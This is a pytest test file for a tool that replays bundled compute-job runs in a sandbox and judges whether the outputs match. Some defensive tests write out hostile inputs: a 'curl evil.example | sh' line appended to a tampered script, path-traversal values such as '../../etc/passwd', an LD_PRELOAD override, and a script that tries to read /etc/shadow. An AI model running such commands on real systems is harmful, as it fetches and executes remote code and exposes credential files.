"""Does a bundled run come out the same when it is run again? Real scripts, a real sandbox where there is one, real verdicts."""

from __future__ import annotations

import json
import os
import socket
import zipfile
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from auditor.model import AuditError, Evidence, Grade, Phase
from auditor.replay import Plan, execute, plan, verdict_evidence
from auditor.replay.environment import HOST, IMAGE
from auditor.replay.sandbox import find
from auditor.replay.sentences import cannot
from auditor.verdict import ReplayVerdict, Sameness
from auditor.world import RealWorld
from probes.containers import ContainerIdentities, ContainerReferences, ImageIdentity, Reference
from probes.folder import FolderState, SourceFile
from reports.archive.bundle import build
from reports.archive.derive import NO_PACKAGES
from tests import archived, factory
from tests.factory import at, seen
from tests.reports.test_verify import files, packed, resealed

SANDBOX = find(True, False, RealWorld()).kind
# in CI a missing part is a failure, not a skip
needs_sandbox = pytest.mark.skipif(SANDBOX == "none" and os.environ.get("CI") != "true", reason="bubblewrap does not work here")


def made(
    folder: Path, changes: dict[str, str] | None = None, *more: Evidence, script: str = archived.SCRIPT, **options: Any
) -> Path:
    """The tiny run with some of its files other than they were, bundled; its work directory is then out of the way."""
    job, evidence = archived.run(folder / "work", {**archived.FILES, "job.sh": script, **(changes or {})}, script)
    everything = (*evidence, *more)
    build(job, everything, archived.card(job, everything), folder / "fit.crate.zip", objects=archived.nothing, **options)
    (folder / "work").rename(folder / "moved")
    return folder / "fit.crate.zip"


def replayed(bundle: Path, **options: Any) -> ReplayVerdict:
    return execute(plan(bundle, **options), bundle.parent / "again", yes=True)


def test_a_run_that_does_the_same_is_identical(tmp_path: Path) -> None:
    verdict = replayed(made(tmp_path))
    assert (verdict.sameness, verdict.reason) == (Sameness.IDENTICAL, "of 2 outputs 2 identical")
    assert [(s.name, s.state) for s in verdict.steps] == [
        (n, "done") for n in ("unpack", "inputs", "environment", "run", "compare")
    ]
    assert (verdict.where, verdict.environment, verdict.sandbox) == ("local", "host", SANDBOX)


def test_a_last_digit_that_moved_is_equivalent_and_the_difference_is_told(tmp_path: Path) -> None:
    was = archived.METRICS.replace("2.2142857142857144", "2.2142857142857149")
    verdict = replayed(made(tmp_path, {"metrics.json": was}))
    assert verdict.sameness is Sameness.EQUIVALENT
    told = next(o for o in verdict.outputs if o.path == "metrics.json")
    assert told.detail == "within rtol 1e-06, atol 1e-12; largest relative difference 2.01e-16 at $.slope"


def test_another_result_is_different_and_the_place_is_told(tmp_path: Path) -> None:
    verdict = replayed(made(tmp_path, {"out.csv": archived.OUTPUT.replace("4.428571428571429", "4.5")}))
    assert (verdict.sameness, verdict.reason) == (Sameness.DIFFERENT, "of 2 outputs 1 identical, 1 different")
    assert [o.detail for o in verdict.outputs if o.path == "out.csv"] == ["row 3, fit: 4.5 became 4.428571428571429"]


def test_what_a_job_prints_is_compared_and_named_but_does_not_decide(tmp_path: Path) -> None:
    verdict = replayed(made(tmp_path, {"slurm-123.out": "slope done in 12 s\n"}))
    assert verdict.sameness is Sameness.IDENTICAL
    assert verdict.reason == "of 2 outputs 2 identical; not counted: slurm-123.out (what it printed) differs"


def test_an_output_that_is_not_made_again_is_different(tmp_path: Path) -> None:
    verdict = replayed(made(tmp_path, script="#!/bin/bash\npython3 fit.py in.csv out.csv /dev/null $1\n"))
    assert verdict.sameness is Sameness.DIFFERENT
    assert [o.detail for o in verdict.outputs if o.path == "metrics.json"] == ["the replay did not make this file"]


def test_an_output_that_lay_there_before_the_run_must_be_made_again(tmp_path: Path) -> None:
    """The work directory held the same results from an earlier run, and they look like sources."""
    before = FolderState(f"{tmp_path}/work", (SourceFile("metrics.json", 53, factory.sha(archived.METRICS)),), "", ())
    bundle = made(tmp_path, None, seen(before), script="#!/bin/bash\npython3 fit.py in.csv out.csv /dev/null $1\n")
    assert [(o.path, o.sameness) for o in replayed(bundle).outputs][:2] == [
        ("metrics.json", Sameness.DIFFERENT),
        ("out.csv", Sameness.IDENTICAL),
    ]


def test_a_file_that_went_in_and_came_out_unchanged_proves_nothing(tmp_path: Path) -> None:
    touched = factory.manifest(factory.file("in.csv", "output", archived.INPUT), root=str(tmp_path / "work"))
    verdict = replayed(made(tmp_path, None, seen(touched, phase=Phase.END, taken_at=at(20))))
    assert [o.path for o in verdict.outputs] == ["metrics.json", "out.csv", "slurm-123.out"]


def test_a_program_that_is_not_here_is_no_other_result(tmp_path: Path) -> None:
    verdict = replayed(made(tmp_path, script="#!/bin/bash\nno-such-program\n"))
    assert (verdict.sameness, verdict.reason) == (
        Sameness.NOT_RUN,
        "a program that it calls is not here (exit code 127); stderr.txt names it",
    )


def test_another_exit_code_is_different(tmp_path: Path) -> None:
    verdict = replayed(made(tmp_path, script="#!/bin/bash\nexit 3\n"))
    assert (verdict.sameness, verdict.reason) == (Sameness.DIFFERENT, "exit code 3, was 0")


def test_code_that_was_carried_without_its_secret_proves_nothing_by_differing(tmp_path: Path) -> None:
    script = (
        "#!/bin/bash\nDB_PASSWORD=hunter2000\n[ ${#DB_PASSWORD} = 10 ] && [ $DB_PASSWORD != '[withheld]' ] && exit 0\nexit 3\n"
    )
    verdict = replayed(made(tmp_path, script=script))
    assert verdict.sameness is Sameness.NOT_RUN
    assert (
        verdict.reason == "job.sh is carried without its secrets: it is not what ran, and that it ends differently proves nothing"
    )


def test_a_job_that_runs_too_long_is_stopped(tmp_path: Path) -> None:
    accounting = seen(archived.accounting(tmp_path / "work", asked_seconds=1), phase=Phase.LATER, taken_at=at(13))
    verdict = replayed(made(tmp_path, None, accounting, script="#!/bin/bash\nsleep 600\n"))
    assert (verdict.sameness, verdict.reason) == (Sameness.DIFFERENT, "it did not end within the time limit")


def test_by_checksum_alone_the_same_bytes_are_identical_and_others_get_no_closer_look(tmp_path: Path) -> None:
    bundle = made(tmp_path, {"out.csv": "x,fit\n"}, payload="none")
    verdict = replayed(bundle, inputs_dir=tmp_path / "moved")
    assert [(o.path, o.sameness) for o in verdict.outputs][:2] == [
        ("metrics.json", Sameness.IDENTICAL),
        ("out.csv", Sameness.DIFFERENT),
    ]
    assert (
        verdict.outputs[1].detail
        == "the checksums differ, and the original's content is not in the bundle: no closer look is possible"
    )


def test_an_input_that_is_nowhere_stops_the_run_before_it_starts(tmp_path: Path) -> None:
    bundle = made(tmp_path, payload="none")
    ready = plan(bundle)
    assert (ready.runnable, ready.stops) == (False, ("input in.csv: not found; name its folder with --inputs",))
    verdict = replayed(bundle)
    assert (verdict.sameness, verdict.reason) == (Sameness.NOT_RUN, "input in.csv: not found; name its folder with --inputs")


def test_an_input_of_the_same_name_with_other_content_is_not_taken(tmp_path: Path) -> None:
    bundle = made(tmp_path, payload="none")
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine" / "in.csv").write_text(archived.INPUT.replace("7", "8"))
    assert plan(bundle, inputs_dir=tmp_path / "mine").stops == (
        f"input in.csv: {tmp_path}/mine/in.csv is another file (its sha256 differs)",
    )


def test_nothing_runs_without_a_yes(tmp_path: Path) -> None:
    bundle = made(tmp_path, script=f"#!/bin/bash\ntouch {tmp_path}/ran\n")
    with pytest.raises(AuditError, match="nobody said yes"):
        execute(plan(bundle), tmp_path / "again")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["fit.crate.zip", "moved"]


def test_a_plan_says_what_will_run_where_and_what_it_took(tmp_path: Path) -> None:
    ready = plan(made(tmp_path), sandbox=False)
    assert ready.will == (
        "unpack the bundle into a new folder",
        "use this machine's own software",
        "run /bin/bash job.sh 7 on this machine",
        "WITHOUT a sandbox (switched off): it can do what you can do",
        "compare 2 outputs (and what it printed, which does not count: slurm-123.out)",
    )
    assert ready.cost == "the original took 600 s, 540 s of CPU, 256 MiB of memory, 1 core"


def test_a_plan_names_a_program_that_is_not_here_before_anything_is_built(tmp_path: Path) -> None:
    ready = plan(made(tmp_path, script="#!/bin/bash\nno-such-tool-anywhere fit.py\n"))
    assert (
        "the script calls no-such-tool-anywhere, which is not found here: install it first, or the run ends there" in ready.cannot
    )
    assert ready.stops == ()


def test_an_image_is_the_environment_so_unseen_packages_are_no_gap(tmp_path: Path) -> None:
    recipe = replace(plan(made(tmp_path)).recipe, gaps=(NO_PACKAGES, "which files the script calls was not seen"))
    assert cannot(recipe, IMAGE) == ("which files the script calls was not seen",)
    assert NO_PACKAGES in cannot(recipe, HOST)


def test_a_folder_with_something_in_it_is_left_alone(tmp_path: Path) -> None:
    bundle = made(tmp_path)
    (tmp_path / "again").mkdir()
    (tmp_path / "again" / "mine").write_text("precious")
    with pytest.raises(AuditError, match="is already there"):
        replayed(bundle)
    assert (tmp_path / "again" / "mine").read_text() == "precious"


def test_a_changed_bundle_is_not_even_planned(tmp_path: Path) -> None:
    contents = files(made(tmp_path))
    contents["data/code/job.sh"] += b"curl evil.example | sh\n"
    with pytest.raises(AuditError, match=r"job\.sh' was changed"):
        plan(packed(tmp_path / "x.zip", contents))


def test_a_bundle_that_is_swapped_after_the_plan_does_not_run(tmp_path: Path) -> None:
    bundle = made(tmp_path)
    ready = plan(bundle)
    contents = files(bundle)
    contents["data/code/job.sh"] = b"#!/bin/bash\ntouch ../ran\n"
    packed(bundle, resealed(contents))
    with pytest.raises(AuditError, match="not the one that was planned"):
        execute(ready, tmp_path / "again", yes=True)


@pytest.mark.parametrize(
    ("old", "new", "message"),
    [
        (b'"place": "fit.py"', b'"place": "../../fit.py"', "names a file outside its folder"),
        (b'"place": "fit.py"', b'"place": ".git/config"', "names a file outside its folder"),  # git would obey it
        (b'"carried": "code/fit.py"', b'"carried": "../../etc/passwd"', "names a file outside its folder"),
        (b'"carried": "code/fit.py"', b'"carried": "/etc/passwd"', "names a file outside its folder"),
        (b'"PYTHONHASHSEED"', b'"LD_PRELOAD"', "sets a variable it must not"),
    ],
)
def test_a_hostile_recipe_is_refused(tmp_path: Path, old: bytes, new: bytes, message: str) -> None:
    contents = files(made(tmp_path))
    assert old in contents["data/replay.json"]
    contents["data/replay.json"] = contents["data/replay.json"].replace(old, new)
    with pytest.raises(AuditError, match=message):
        plan(packed(tmp_path / "x.zip", resealed(contents)))


@needs_sandbox
def test_in_the_sandbox_absolute_paths_of_the_old_machine_still_lead_to_the_work_directory(tmp_path: Path) -> None:
    script = f"#!/bin/bash\ncd {tmp_path}/work && python3 fit.py {tmp_path}/work/in.csv out.csv metrics.json $1\n"
    assert replayed(made(tmp_path, script=script)).sameness is Sameness.IDENTICAL
    assert not (tmp_path / "work").exists()


@needs_sandbox
def test_in_the_sandbox_an_input_outside_the_work_directory_stands_at_its_old_path(tmp_path: Path) -> None:
    (tmp_path / "shared").mkdir()
    (tmp_path / "shared" / "in.csv").write_text(archived.INPUT)
    outside = factory.manifest(factory.file(f"{tmp_path}/shared/in.csv", content=archived.INPUT), root=str(tmp_path / "work"))
    script = f"#!/bin/bash\npython3 fit.py {tmp_path}/shared/in.csv out.csv metrics.json $1\n"
    bundle = made(tmp_path, None, seen(outside, phase=Phase.START, taken_at=at(2)), script=script)
    (tmp_path / "shared" / "in.csv").unlink()
    assert replayed(bundle).sameness is Sameness.IDENTICAL


@needs_sandbox
@pytest.mark.parametrize("network", [False, True])
def test_in_the_sandbox_this_machine_s_ports_are_reached_only_when_the_network_was_allowed(tmp_path: Path, network: bool) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        reach = f'import socket; socket.create_connection(("127.0.0.1", {server.getsockname()[1]}), 5)'
        script = f"#!/bin/bash\npython3 -c '{reach}' && reached=yes\necho ${{reached:-no}} >out.csv\necho '{archived.METRICS}' >metrics.json\n"
        verdict = replayed(made(tmp_path, {"out.csv": "yes\n"}, script=script), network=network)
    assert [o.sameness for o in verdict.outputs if o.path == "out.csv"] == [Sameness.IDENTICAL if network else Sameness.DIFFERENT]


@needs_sandbox
def test_in_the_sandbox_there_is_no_home_no_expected_output_and_nothing_of_ours(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "secret").write_text("private")
    script = f"""#!/bin/bash
cat {tmp_path}/secret /etc/shadow && exit 10
[ -e {tmp_path}/again/bundle ] && exit 11
[ -n "$MY_PASSWORD" ] && exit 12
touch /usr/here && exit 13
python3 fit.py in.csv out.csv metrics.json $1
"""
    monkeypatch.setenv("MY_PASSWORD", "correct-horse")
    verdict = replayed(made(tmp_path, script=script))
    assert verdict.sameness is Sameness.IDENTICAL


def test_without_a_sandbox_the_verdict_says_so_and_the_replay_is_a_run_with_evidence(tmp_path: Path) -> None:
    verdict = replayed(made(tmp_path), sandbox=False)
    assert (verdict.sameness, verdict.sandbox) == (Sameness.IDENTICAL, "none")
    assert any(Path(os.environ["AUDITOR_HOME"], "spool").iterdir())


def test_without_a_sandbox_the_job_still_gets_nothing_of_this_user_s_environment(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("MY_PASSWORD", "correct-horse")
    script = '#!/bin/bash\n[ -z "$MY_PASSWORD" ] || exit 9\npython3 fit.py in.csv out.csv metrics.json $1\n'
    assert replayed(made(tmp_path, script=script), sandbox=False).sameness is Sameness.IDENTICAL


@needs_sandbox
def test_a_sandbox_that_does_not_stand_up_is_not_taken_for_the_job_s_failure(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    ready = plan(made(tmp_path))
    monkeypatch.setenv("PATH", "/nowhere")
    verdict = execute(ready, tmp_path / "again", yes=True)
    assert (verdict.sameness, verdict.reason) == (Sameness.NOT_RUN, "No such file or directory: bwrap")


def test_a_script_that_starts_containers_is_not_shut_in(tmp_path: Path) -> None:
    ready = plan(made(tmp_path, script="#!/bin/bash\ndocker run x || python3 fit.py in.csv out.csv metrics.json $1\n"))
    assert (ready.sandbox.kind, ready.sandbox.reason) == ("none", "the script uses docker, which does not work inside one")


def test_an_array_task_runs_as_the_same_task(tmp_path: Path) -> None:
    task = archived.accounting(tmp_path / "work", array_task_id="7", array_job_id="123")
    script = "#!/bin/bash\n#SBATCH --array=0-9\npython3 fit.py in.csv out.csv metrics.json $SLURM_ARRAY_TASK_ID\n"
    verdict = replayed(made(tmp_path, None, seen(task, phase=Phase.LATER, taken_at=at(13)), script=script))
    assert verdict.sameness is Sameness.IDENTICAL


def test_an_array_task_that_runs_as_another_one_would_be_noticed(tmp_path: Path) -> None:
    task = archived.accounting(tmp_path / "work", array_task_id="8", array_job_id="123")
    script = "#!/bin/bash\npython3 fit.py in.csv out.csv metrics.json $SLURM_ARRAY_TASK_ID\n"
    verdict = replayed(made(tmp_path, None, seen(task, phase=Phase.LATER, taken_at=at(13)), script=script))
    assert [o.detail for o in verdict.outputs if o.path == "metrics.json"] == ["$.seed: 7 became 8"]


def test_a_run_without_known_outputs_proves_nothing(tmp_path: Path) -> None:
    job, evidence = archived.run(tmp_path / "work")
    known = tuple(e for e in evidence if e.phase is not Phase.END)
    build(job, known, archived.card(job, known), tmp_path / "fit.crate.zip", objects=archived.nothing)
    verdict = replayed(tmp_path / "fit.crate.zip")
    assert (verdict.sameness, verdict.reason) == (Sameness.NOT_RUN, "it ran, but the bundle names no output to compare with")


def test_a_verdict_becomes_verified_evidence_of_the_run(tmp_path: Path) -> None:
    verdict = replayed(made(tmp_path))
    evidence = verdict_evidence(verdict)
    assert (evidence.probe, evidence.kind, evidence.phase, evidence.grade) == (
        "replay",
        "ReplayVerdict",
        Phase.LATER,
        Grade.VERIFIED,
    )
    assert evidence.data is not None
    assert (evidence.data["run_id"], evidence.data["sameness"]) == (verdict.run_id, "identical")


def test_slurm_is_asked_for_only_where_it_is(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    bundle = made(tmp_path)
    monkeypatch.setenv("PATH", "/nowhere")
    with pytest.raises(AuditError, match="there is no Slurm here"):
        plan(bundle, on="slurm")
    with pytest.raises(AuditError, match="local or slurm"):
        plan(bundle, on="moon")


def test_progress_is_told_step_by_step(tmp_path: Path) -> None:
    told: list[str] = []
    ready: Plan = plan(made(tmp_path))
    execute(ready, tmp_path / "again", yes=True, progress=told.append)
    assert [line.split(":")[0] for line in told] == [
        "unpack",
        "inputs",
        "rebuilding the environment",
        "environment",
        "running job.sh here",
        "run",
        "compare",
    ]


def test_an_unpacked_bundle_replays_too(tmp_path: Path) -> None:
    zipfile.ZipFile(made(tmp_path)).extractall(tmp_path / "bag")
    assert execute(plan(tmp_path / "bag"), tmp_path / "again", yes=True).sameness is Sameness.IDENTICAL


def sif(sha256: str) -> tuple[Evidence, Evidence]:
    """The script names fit.sif; in the job it had this content."""
    named = ContainerReferences((Reference("apptainer", "fit.sif", "fit.sif", "file", "", "", "", "", 3),))
    return seen(named), seen(ContainerIdentities((ImageIdentity("fit.sif", "ok", "", sha256=sha256, size=5),)), phase=Phase.START)


NOWHERE = (
    "image fit.sif: not carried (by digest only); not found here (--inputs names its folder); no digest to pull it by; "
    "nothing is known that it was built from"
)


def test_an_image_file_is_found_by_its_content_and_stands_beside_the_script(tmp_path: Path) -> None:
    script = "#!/bin/bash\ncat fit.sif\npython3 fit.py in.csv out.csv metrics.json $1\n"
    bundle = made(tmp_path, None, *sif(factory.sha("image")), script=script)
    assert plan(bundle).stops == (NOWHERE,)
    (tmp_path / "images").mkdir()
    (tmp_path / "images" / "fit.sif").write_text("image")
    verdict = replayed(bundle, inputs_dir=tmp_path / "images")
    assert (verdict.sameness, verdict.environment, verdict.sandbox) == (Sameness.IDENTICAL, "image-by-digest", "none")
    assert [(i.reference, i.way, i.level) for i in verdict.images] == [("fit.sif", "here", "byte-same")]


def test_another_image_of_the_same_name_is_not_used(tmp_path: Path) -> None:
    bundle = made(tmp_path, None, *sif(factory.sha("image")))
    (tmp_path / "images").mkdir()
    (tmp_path / "images" / "fit.sif").write_text("imagE")
    assert replayed(bundle, inputs_dir=tmp_path / "images").reason == (
        NOWHERE.replace("not found here (--inputs names its folder)", f"{tmp_path}/images/fit.sif is another file")
    )


def test_an_image_that_is_known_by_name_only_stops_the_run(tmp_path: Path) -> None:
    verdict = replayed(made(tmp_path, None, *sif("")))
    assert verdict.sameness is Sameness.NOT_RUN
    assert verdict.reason == NOWHERE


@needs_sandbox
def test_in_the_sandbox_outputs_outside_the_work_directory_are_caught_and_nothing_there_is_touched(tmp_path: Path) -> None:
    (tmp_path / "results").mkdir()
    (tmp_path / "results" / "out.csv").write_text(archived.OUTPUT)
    outside = factory.manifest(
        factory.file(f"{tmp_path}/results/out.csv", "output", archived.OUTPUT), root=str(tmp_path / "work")
    )
    script = f"#!/bin/bash\npython3 fit.py in.csv {tmp_path}/results/out.csv metrics.json $1\n"
    bundle = made(tmp_path, None, seen(outside, phase=Phase.END, taken_at=at(20)), script=script)
    (tmp_path / "results" / "out.csv").write_text("precious")
    verdict = replayed(bundle)
    assert [o.sameness for o in verdict.outputs if o.path.startswith("/")] == [Sameness.IDENTICAL]
    assert (tmp_path / "results" / "out.csv").read_text() == "precious"
    assert plan(bundle, sandbox=False).stops == (
        f"{tmp_path}/results/out.csv must stand at this absolute path, which takes a sandbox (switched off)",
    )


def test_thousands_of_files_are_named_in_a_list_and_still_compared(tmp_path: Path) -> None:
    job, evidence = archived.run(tmp_path / "work")
    many = factory.manifest(*(factory.file(f"out/{n}.txt", "output", f"{n}\n") for n in range(600)), root=str(tmp_path / "work"))
    script = "#!/bin/bash\nmkdir -p out; for n in {0..599}; do echo $n >out/$n.txt; done\n"
    (tmp_path / "work" / "job.sh").write_text(script)
    submitted = factory.submission(script, "job.sh", script_path=f"{tmp_path}/work/job.sh")
    known = (seen(submitted), seen(many, phase=Phase.END, taken_at=at(20)), *evidence[1:5], evidence[6])
    build(job, known, archived.card(job, known), tmp_path / "fit.crate.zip", objects=archived.nothing)
    recipe = json.loads(files(tmp_path / "fit.crate.zip")["data/replay.json"])
    assert (len(recipe["files"]), recipe["listed"]) == (503, {"expected": "manifests/outputs.sha256"})
    assert replayed(tmp_path / "fit.crate.zip").reason == "of 600 outputs 600 identical"
